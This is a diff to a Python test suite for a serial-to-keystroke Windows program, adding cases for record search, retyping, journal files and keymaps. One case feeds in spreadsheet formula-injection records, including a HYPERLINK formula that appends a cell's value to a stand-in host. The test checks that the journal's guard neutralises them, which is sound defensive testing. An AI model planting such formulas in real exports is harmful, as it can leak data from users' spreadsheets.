@@ -11,17 +11,20 @@ the records and two more polls, looks for a message box, and exits.
 
 The runner (__main__) applies ALWAYS and a case's own checks to its run.
 """
+import csv
 import os
 import re
+import subprocess
 import time
 
-from .checks import (delivered, exit_code, journal_actions, kept_focus, lines_received_start, port_lost, seen,
-                     settings_start,
-                     stopped_within, typed, typed_once_but_resent, typed_whole_after_a_piece, user_done,
-                     window_gaps_quiet)
+from .checks import (DAY_FILE, PENDING_FILE, delivered, exit_code, journal_actions, journal_bytes, journal_file,
+                     kept_focus, lines_received_start, port_lost, seen, settings_start, stopped_within, typed,
+                     typed_once_but_resent, typed_whole_after_a_piece, user_done, window_gaps_quiet)
 from .environment import wait_for
-from .harness import (REPO, InteractiveSetup, reads_so_far, record_options, typed_records, typed_so_far,
-                      wait_until_delivered, wait_until_polled, wait_until_typed)
+from .harness import (REPO, InteractiveSetup, UserFailed, byte_record_options, journal_folder, journal_name,
+                      reads_so_far, record_options, today, typed_records, typed_so_far, wait_until_delivered,
+                      wait_until_polled, wait_until_typed)
+from .simulator import record_line
 
 
 def dialog_caption(template):
@@ -160,6 +163,161 @@ def exit_with_recent_records_open(driver, outcome):
     driver("tray", "IDM_TRAY_EXIT")
 
 
+# What the user reads in "Recent records" and the journal folder.
+
+def list_line(driver, line, *columns):
+    return "|".join(driver("listtext", RECENT, "IDC_RECENT_LIST", str(line), str(c)) for c in columns)
+
+
+def wait_until_listed(driver, lines, seconds=30):
+    """A search is answered by the window's reading thread: the list
+    changes a moment after the text."""
+    def count():
+        return driver("listcount", RECENT, "IDC_RECENT_LIST")
+    if not wait_for(lambda: count() == str(lines), seconds, step=0.2):
+        raise UserFailed("the list has %s lines, waited for %d" % (count(), lines))
+
+
+def wait_until_all_read(driver, seconds=60):
+    """The status under the list once no file is left to read."""
+    status = [""]
+
+    def all_read():
+        status[0] = driver("gettext", RECENT, "IDC_RECENT_STATUS")
+        return status[0] != "" and "reading" not in status[0]
+    if not wait_for(all_read, seconds, step=0.2):
+        raise UserFailed("the journal was not read within %d s: %r" % (seconds, status[0]))
+    return status[0]
+
+
+def journal_records(outcome, name):
+    """The records of a journal file's rows, "|" between them; "none"
+    when there is no such file."""
+    path = os.path.join(journal_folder(outcome.directory), journal_name(name))
+    if not os.path.exists(path):
+        return "none"
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        return "|".join(row["Record"] for row in csv.DictReader(f))
+
+
+def wait_until_as_much_typed(outcome, count, seconds=20):
+    """Where what arrives is the case's to judge: waits for the count of
+    characters alone."""
+    if not wait_for(lambda: len(typed_so_far(outcome)) >= count, seconds):
+        raise UserFailed("typed %r, waited for %d characters" % (typed_so_far(outcome), count))
+
+
+def type_again_found(driver, outcome, search, record):
+    """Recent records narrowed by the search to one record under its
+    transfer's line; that record chosen and typed again into the target:
+    the user waits for as many characters as it has (the case's checks
+    tell whether they are the right ones)."""
+    typed_before = len(typed_so_far(outcome))
+    driver("settext", RECENT, "IDC_RECENT_SEARCH", search)
+    wait_until_listed(driver, 2)
+    outcome.seen["found"] = list_line(driver, 1, 1)
+    outcome.seen["status of the search"] = driver("gettext", RECENT, "IDC_RECENT_STATUS")
+    driver("listselect", RECENT, "IDC_RECENT_LIST", "1")
+    driver("click", RECENT, "IDC_TYPE_AGAIN")
+    driver("wait", RECENT, "gone", "5")
+    driver("foreground", TARGET)
+    wait_until_as_much_typed(outcome, typed_before + len(typed_records(record)))
+
+
+def day_file_held_meanwhile(driver, outcome):
+    """A keep-online series types its first batch; before the next poll the
+    user opens the day's journal file in a spreadsheet, and the second
+    batch is typed while it shows the file, the rows waiting in the day's
+    pending file. The user closes it and waits for the last batch and a
+    retry of the move."""
+    wait_until_delivered(outcome, 2, seconds=60)
+    spreadsheet = driver.spreadsheet(outcome, DAY_FILE).open()
+    wait_until_delivered(outcome, 4)
+    outcome.seen["waiting while held"] = journal_records(outcome, PENDING_FILE)
+    spreadsheet.close()
+    wait_until_delivered(outcome, 6)
+    time.sleep(6)    # longer than the program waits to try the move again
+    driver("tray", "IDM_TRAY_EXIT")
+
+
+# Records a spreadsheet would run as formulas; the one with a link first,
+# so that only a search brings it to the top of the list. (Given to the
+# simulator as escaped bytes: "-2+3" would pass for an option.)
+FORMULAS = ('=HYPERLINK("http://x.invalid/?"&A1)', "=1+2", "+SUM(A1:A3)", "-2+3", "@SUM(1)")
+
+
+def formulas_typed_again(driver, outcome):
+    """The records are typed as they are; Recent records lists them as
+    they are, newest first, and the one with a link, found by a search,
+    is typed again as it is."""
+    wait_until_typed(outcome, typed_records(*FORMULAS), seconds=60)
+    driver("tray", "IDM_TRAY_RECENT")
+    driver("wait", RECENT, "visible")
+    wait_until_listed(driver, 1 + len(FORMULAS))
+    outcome.seen["listed"] = "|".join(list_line(driver, line, 1) for line in range(1, 1 + len(FORMULAS)))
+    type_again_found(driver, outcome, "hyperlink", FORMULAS[0])
+    driver("tray", "IDM_TRAY_EXIT")
+
+
+def resident_kib(outcome):
+    """The memory of the program's own pages (RssAnon) as Linux counts it."""
+    exe = os.path.join(outcome.directory, "app", "Orvanta.exe")
+    pids = subprocess.run(["pgrep", "-f", re.escape(exe)], capture_output=True, text=True).stdout.split()
+    for pid in pids:
+        try:
+            with open("/proc/%s/status" % pid) as f:
+                fields = dict(line.split(":", 1) for line in f if ":" in line)
+        except OSError:
+            continue
+        if fields.get("Name", "").strip() == "Orvanta.exe":
+            return int(fields["RssAnon"].split()[0])
+    raise UserFailed("no Orvanta.exe process found")
+
+
+NEEDLE = "NEEDLE-4711"
+
+
+def months_of_journal(driver, outcome):
+    """Three records typed beside 89 days of journal (890,000 rows); the
+    user opens Recent records and waits for all of it to be read: the
+    first line is today's transfer. A search finds the one record of the
+    oldest day, which is typed again. The seconds until the first line
+    and until all is read, and the memory it took, are figures only."""
+    wait_until_typed(outcome, typed_records(*SIX[:3]), seconds=60)
+    before = resident_kib(outcome)
+    start = time.monotonic()
+    driver("tray", "IDM_TRAY_RECENT")
+    driver("listcount", RECENT, "IDC_RECENT_LIST", "60")
+    outcome.seen["seconds to the first line"] = "%.1f" % (time.monotonic() - start)
+    outcome.seen["all read"] = wait_until_all_read(driver)
+    outcome.seen["seconds to all read"] = "%.1f" % (time.monotonic() - start)
+    outcome.seen["memory grown MB"] = "%.1f" % ((resident_kib(outcome) - before) / 1024)
+    when = list_line(driver, 0, 0)
+    outcome.seen["first line"] = ("today" if when.startswith(today() + " ") else when) + "|" \
+        + list_line(driver, 0, 1)
+    outcome.seen["under it"] = "|".join(list_line(driver, line, 1) for line in (1, 2, 3))
+    type_again_found(driver, outcome, NEEDLE.lower(), NEEDLE)
+    driver("tray", "IDM_TRAY_EXIT")
+
+
+# On a French keymap digits take Shift, and Caps Lock changes more than
+# letters; "@", "#", "[", ... are AltGr characters there, which wine
+# cannot type (see the German case).
+FRENCH = ("Lot 12/B-7 azerty", "QWERTY; x=4, y:5!", "Prix 3,50 EUR * 2 % ?")
+
+
+def caps_lock_on_typed_again(driver, outcome):
+    """Caps Lock is on before the first record comes (the collector
+    refuses the first READs) and stays on; the record typed again from
+    Recent records comes as it came the first time."""
+    outcome.seen["caps lock"] = driver("key", "20")
+    wait_until_as_much_typed(outcome, len(typed_records(*FRENCH)), seconds=60)
+    driver("tray", "IDM_TRAY_RECENT")
+    driver("wait", RECENT, "visible")
+    type_again_found(driver, outcome, "prix", FRENCH[2])
+    driver("tray", "IDM_TRAY_EXIT")
+
+
 RS232_LINES = b"0\r\n1\r\n0\r\n1\r\n0\r\n2\r\n2\r\n"
 ENTER_PREFIX = b"1\x7f" + bytes(9) + b"\r\n"
 
@@ -168,6 +326,37 @@ CASES = {
         InteractiveSetup(KEEP_ONLINE, sim_options=record_options(*SIX[:3]), user=type_again_chosen_record),
         [typed(typed_records(*SIX[:3], SIX[1])), seen("window closed", "ok"),
          journal_actions(("typed", SIX[0]), ("typed", SIX[1]), ("typed", SIX[2]), ("typed again", SIX[1]))]),
+    # Typed again as typed: no apostrophe of the journal's formula guard
+    # in the list or in the keys, while the journal has it in its Record
+    # field and the line's bytes exactly.
+    "formula_records_typed_listed_and_typed_again": (
+        InteractiveSetup(KEEP_ONLINE, sim_options=byte_record_options(*[r.encode() for r in FORMULAS]),
+                         user=formulas_typed_again),
+        [typed(typed_records(*FORMULAS, FORMULAS[0])), seen("listed", "|".join(reversed(FORMULAS))),
+         seen("found", FORMULAS[0]), seen("status of the search", "1 record of 5"),
+         journal_actions(*[("typed", "'" + r) for r in FORMULAS], ("typed again", "'" + FORMULAS[0])),
+         journal_bytes(*[record_line(n, r.encode())[:-1] for n, r in enumerate(FORMULAS)],
+                       record_line(0, FORMULAS[0].encode())[:-1])]),
+    # Polls every 5 s: time enough to open the spreadsheet between batches.
+    "keep_online_day_file_held_meanwhile": (
+        InteractiveSetup("1,1,1,1,1,5,2", user=day_file_held_meanwhile,
+                         sim_options=record_options(*SIX[:2]) + ["--next-batch"] + record_options(*SIX[2:4])
+                         + ["--next-batch"] + record_options(*SIX[4:])),
+        [typed(typed_records(*SIX)), delivered(6), seen("waiting while held", "|".join(SIX[2:4])),
+         journal_file(DAY_FILE, SIX), journal_file(PENDING_FILE, None), kept_focus]),
+    # 890,000 rows of 89 days, read while the list is already open.
+    "recent_records_over_89_days_of_journal": (
+        InteractiveSetup(KEEP_ONLINE, sim_options=record_options(*SIX[:3]), journal_days=89, time_limit=120,
+                         user=months_of_journal),
+        [typed(typed_records(*SIX[:3], NEEDLE)), seen("all read", "890,003 records in 8,901 transfers"),
+         seen("first line", "today|COM1, 3 records"), seen("under it", "|".join(reversed(SIX[:3]))),
+         seen("found", NEEDLE), seen("status of the search", "1 record of 890,003")]),
+    # Caps Lock on from before the series and on while a record is typed
+    # again, on a keymap where it changes more than letters.
+    "caps_lock_on_french_keymap_typed_again": (
+        InteractiveSetup(KEEP_ONLINE, sim_options=record_options(*FRENCH) + ["--nak-read", "4"], keymap="fr",
+                         user=caps_lock_on_typed_again),
+        [typed(typed_records(*FRENCH, FRENCH[2])), seen("caps lock", "on"), seen("found", FRENCH[2])]),
     "keep_online_goes_on_and_exits_with_recent_records_open": (
         InteractiveSetup(KEEP_ONLINE, user=exit_with_recent_records_open,
                          sim_options=record_options(*SIX[:2]) + ["--next-batch"] + record_options(*SIX[2:4])),
